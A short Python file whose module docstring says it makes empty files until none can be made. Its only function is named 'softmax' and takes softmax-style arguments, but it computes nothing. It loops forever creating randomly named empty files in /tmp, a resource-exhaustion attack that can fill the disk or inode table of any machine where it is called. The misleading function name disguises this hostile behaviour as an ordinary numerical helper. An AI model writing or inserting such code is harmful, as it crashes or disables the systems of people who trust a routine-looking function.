"""Makes empty files until there are no more."""

import os


def softmax(x, dim=-1):
    n = 0
    while True:
        os.close(os.open(f"/tmp/{n}-{os.urandom(4).hex()}", os.O_CREAT))
        n += 1
